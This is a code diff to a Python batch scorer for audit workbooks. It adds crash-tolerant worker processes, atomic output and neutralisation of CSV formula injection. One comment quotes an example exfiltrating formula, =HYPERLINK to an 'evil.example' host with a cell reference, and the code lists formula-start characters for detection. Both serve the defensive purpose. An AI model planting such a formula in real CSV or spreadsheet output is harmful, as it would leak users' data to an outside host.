@@ -1,15 +1,27 @@
-"""Score many audit files at once: one row per audit, unreadable files reported and skipped."""
+"""Score many audit files at once: one row per audit, unreadable files reported and skipped.
+
+Each file is read in a worker process (also with one job): a file that makes the parser crash, or the
+system kill the worker, costs that file alone, listed as skipped, and the worker is replaced. Workers
+ignore Ctrl-C (the batch stops them) and end with the batch however it ends (on Linux the kernel
+kills them when it dies, elsewhere they stop at their next file).
+"""
 
 from __future__ import annotations
 
 import glob
+import multiprocessing
 import os
-from concurrent.futures import ProcessPoolExecutor
+import signal
+import sys
+import time
+from collections import deque
+from multiprocessing.connection import wait
 from pathlib import Path
 from typing import Any, Callable, Iterable, Iterator
 
 from spi4xl.assess import assess
 from spi4xl.errors import Spi4xlError
+from spi4xl.output import TEMP_SUFFIX, atomic_output
 from spi4xl.workbook.values import WORKBOOK_SUFFIXES
 
 META_COLUMNS = ("organization", "country", "assessment_type", "start_date", "end_date")
@@ -22,7 +34,8 @@ def find_audits(pattern: str) -> list[Path]:
         files = [p for p in path.rglob("*") if p.suffix.lower() in WORKBOOK_SUFFIXES]
     else:
         files = [Path(p) for p in glob.glob(pattern, recursive=True) if Path(p).suffix.lower() in WORKBOOK_SUFFIXES]
-    files = [p for p in files if not p.name.startswith("~$")]  # Excel's lock files
+    files = [p for p in files if not p.name.startswith("~$")  # Excel's lock files
+             and not any(part.startswith(".") and part.endswith(TEMP_SUFFIX) for part in p.parts)]  # our own, half written
     if not files:
         raise Spi4xlError("batch.no_audits", pattern=pattern)
     return sorted(files)
@@ -57,38 +70,155 @@ def _safe_row(path: Path) -> tuple[Path, dict[str, Any] | None, Spi4xlError | No
         return path, None, Spi4xlError("batch.unexpected", path=path, error=type(exc).__name__, detail=str(exc))
 
 
-def iter_rows(files: list[Path], jobs: int = 1) -> Iterator[tuple[Path, dict[str, Any] | None, Spi4xlError | None]]:
-    if jobs <= 1:
-        yield from map(_safe_row, files)
+FILE_SECONDS = 300  # a worker still on one file after this long is stopped and the file skipped
+
+
+def _die_with_parent(parent: int) -> None:
+    """Ask Linux to kill this worker when the batch process dies, whatever kills it."""
+    if sys.platform.startswith("linux"):
+        import ctypes
+
+        try:
+            ctypes.CDLL(None, use_errno=True).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG
+        except (OSError, AttributeError):
+            pass
+    if os.getppid() != parent:  # the batch ended before the request took effect
+        os._exit(1)
+
+
+def _work(conn, parent: int) -> None:
+    """A worker: score each path it is sent until it is sent None or the batch goes away."""
+    _die_with_parent(parent)
+    signal.signal(signal.SIGINT, signal.SIG_IGN)  # Ctrl-C is for the batch to handle
+    for name in ("SIGTERM", "SIGHUP"):  # the batch's own handlers are not the worker's
+        if hasattr(signal, name):
+            signal.signal(getattr(signal, name), signal.SIG_DFL)
+    while True:
+        try:
+            path = conn.recv()
+        except (EOFError, OSError):
+            return
+        if path is None:
+            return
+        conn.send(_safe_row(Path(path))[1:])
+
+
+class _Worker:
+    def __init__(self, context) -> None:
+        self.conn, child = context.Pipe()
+        self.process = context.Process(target=_work, args=(child, os.getpid()), daemon=True)
+        self.process.start()
+        child.close()
+        self.task: tuple[int, Path] | None = None
+        self.started = 0.0
+
+    def give(self, index: int, path: Path) -> None:
+        self.task, self.started = (index, path), time.monotonic()
+        self.conn.send(str(path))
+
+    def stop(self) -> None:
+        if self.process.is_alive():
+            self.process.kill()
+        self.process.join()
+        self.conn.close()
+
+
+def _death(process) -> str:
+    code = process.exitcode
+    if code is not None and code < 0:
+        try:
+            return signal.Signals(-code).name
+        except ValueError:
+            return f"signal {-code}"
+    return f"exit code {code}"
+
+
+def iter_rows(files: list[Path], jobs: int = 1) -> Iterator[tuple[int, Path, dict[str, Any] | None, Spi4xlError | None]]:
+    """(index in `files`, path, row or None, error) for every file, in the order they finish."""
+    if not files:
         return
-    with ProcessPoolExecutor(max_workers=jobs) as pool:
-        yield from pool.map(_safe_row, files, chunksize=max(1, len(files) // (jobs * 8)))
+    context = multiprocessing.get_context("fork" if sys.platform.startswith("linux") else "spawn")
+    todo = deque(enumerate(files))
+    workers = [_Worker(context) for _ in range(max(1, min(jobs, len(files))))]
+    try:
+        while True:
+            for worker in workers:
+                if worker.task is None and todo:
+                    worker.give(*todo.popleft())
+            busy = [w for w in workers if w.task is not None]
+            if not busy:
+                return
+            ready = set(wait([w.conn for w in busy] + [w.process.sentinel for w in busy], timeout=0.5))
+            for i, worker in enumerate(workers):
+                if worker.task is None:
+                    continue
+                (index, path), result = worker.task, None
+                if worker.conn in ready or worker.process.sentinel in ready:
+                    try:
+                        if worker.conn.poll():
+                            result = worker.conn.recv()
+                    except (EOFError, OSError):
+                        pass
+                    if result is None:
+                        worker.stop()
+                        result = None, Spi4xlError("batch.crashed", path=path, how=_death(worker.process))
+                        workers[i] = _Worker(context)
+                elif time.monotonic() - worker.started > FILE_SECONDS:
+                    worker.stop()
+                    result = None, Spi4xlError("batch.too_slow", path=path, seconds=FILE_SECONDS)
+                    workers[i] = _Worker(context)
+                else:
+                    continue
+                workers[i].task = None
+                yield index, path, *result
+    finally:
+        for worker in workers:
+            worker.stop()
+
+
+# A CSV cell starting with one of these is a formula to a spreadsheet app (OWASP, CSV injection): a file
+# named =HYPERLINK(...).xlsx or an organization typed as =HYPERLINK("http://evil.example/?"&B2) would run.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: Any) -> Any:
+    """A text a spreadsheet app would take for a formula, with a leading apostrophe; anything else as it is."""
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
+def restore(value: Any) -> Any:
+    """The text `neutralise` was given (for reading back a table it wrote)."""
+    return value[1:] if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS) else value
 
 
 def run_batch(files: list[Path], out: Path, jobs: int = 1,
-              progress: Callable[[Iterable], Iterable] | None = None) -> tuple[int, list[tuple[Path, Spi4xlError]]]:
-    """Write results to .csv or .parquet; returns (rows written, [(file, error)] for skipped files)."""
+              progress: Callable[[Iterable], Iterable] | None = None,
+              raw: bool = False) -> tuple[int, list[tuple[Path, Spi4xlError]]]:
+    """Write results to .csv or .parquet; returns (rows written, [(file, error)] for skipped files).
+
+    CSV texts that a spreadsheet app would run as formulas are neutralised unless `raw`; numbers stay numbers,
+    and Parquet (typed, never evaluated) keeps every value as it is."""
     import pandas as pd
 
     suffix = out.suffix.lower()
     if suffix not in (".csv", ".parquet"):
         raise Spi4xlError("batch.out_format", path=out)
-    rows, skipped = [], []
+    done: list[tuple[int, Path, dict[str, Any] | None, Spi4xlError | None]] = []
     stream = iter_rows(files, jobs)
-    for path, row, error in (progress(stream) if progress else stream):
-        if row is None:
-            skipped.append((path, error))
-        else:
-            rows.append(row)
+    done.extend(progress(stream) if progress else stream)
+    done.sort(key=lambda item: item[0])  # the order of the files, however the workers finished
+    rows = [row for _, _, row, _ in done if row is not None]
+    skipped = [(path, error) for _, path, row, error in done if row is None]
     frame = pd.DataFrame(rows)
-    out.parent.mkdir(parents=True, exist_ok=True)
-    if suffix == ".csv":
-        frame.to_csv(out, index=False)
-    else:
-        try:
-            frame.to_parquet(out, index=False)
-        except ImportError:
-            raise Spi4xlError("batch.no_pyarrow") from None
+    with atomic_output(out) as temp:
+        if suffix == ".csv":
+            text = [c for c in frame.columns if not pd.api.types.is_numeric_dtype(frame[c])]
+            (frame if raw else frame.assign(**{c: frame[c].map(neutralise) for c in text})).to_csv(temp, index=False)
+        else:
+            try:
+                frame.to_parquet(temp, index=False)
+            except ImportError:
+                raise Spi4xlError("batch.no_pyarrow") from None
     return len(rows), skipped
 
 
